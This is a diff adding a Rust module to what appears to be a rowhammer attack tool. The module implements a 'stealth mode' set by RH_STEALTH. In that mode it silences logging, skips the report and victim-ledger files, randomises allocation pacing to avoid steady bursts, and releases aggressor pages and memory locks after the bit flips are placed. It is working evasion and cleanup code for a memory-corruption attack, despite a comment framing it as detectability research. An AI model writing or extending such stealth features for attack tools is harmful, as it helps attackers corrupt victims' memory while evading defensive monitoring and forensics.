@@ -0,0 +1,59 @@
+use std::env;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::Duration;
+use rand::Rng;
+
+use crate::config::*;
+
+//Stealth mode of the loader (`RH_STEALTH`), to study how detectable the
+//loader phase is for defensive monitoring, it reduces the observable
+//footprint of the attack:
+//  - no log output (not even the memlock warnings on stderr)
+//  - no files: no timeline, report sinks, victim ledger or row wear
+//    accounting, and no `su` child process to clear the page cache
+//  - the tool lock is taken anonymously (see utils/tool_lock.rs)
+//  - randomized allocation pacing: short random pauses between the page
+//    allocations instead of one steady burst (see `pace`)
+//  - the aggressor pages are released and the memory lock is dropped before
+//    returning to main (see `release`)
+//The flag is global so the code that runs before a session exists (e.g.,
+//`configure`) can check it, the sessions take it over in their settings (see
+//RhContext)
+
+static ENABLED: AtomicBool = AtomicBool::new(false);
+
+//on average one pause every PACE_INTERVAL allocated pages
+static PACE_INTERVAL: u32 = 256;
+//maximal length of a pause
+static PACE_MAX_PAUSE: Duration = Duration::from_micros(2000);
+
+//Enables the stealth mode if `RH_STEALTH` is set, call before `configure`
+pub fn enable_if_requested() -> bool {
+  let enabled = env::var("RH_STEALTH").is_ok();
+  ENABLED.store(enabled, Ordering::Relaxed);
+  enabled
+}
+
+pub fn enabled() -> bool {
+  ENABLED.load(Ordering::Relaxed)
+}
+
+//Pauses for a random time after some of the page allocations (call it in
+//stealth mode only)
+pub fn pace() {
+  let mut rng = rand::thread_rng();
+  if rng.gen_ratio(1, PACE_INTERVAL) {
+    std::thread::sleep(rng.gen_range(Duration::ZERO..PACE_MAX_PAUSE));
+  }
+}
+
+//Releases the pages of arg:frames (e.g., the aggressor frames) from
+//arg:frame2map and unlocks the memory of the process (the flips are in place,
+//the remaining pages may be swapped from now on)
+pub fn release(frame2map: &mut Frame2Map, frames: impl Iterator<Item = u64>) {
+  for frame in frames {
+    //unmaps the page
+    std::mem::drop(frame2map.remove(&frame));
+  }
+  unsafe {libc::munlockall();}
+}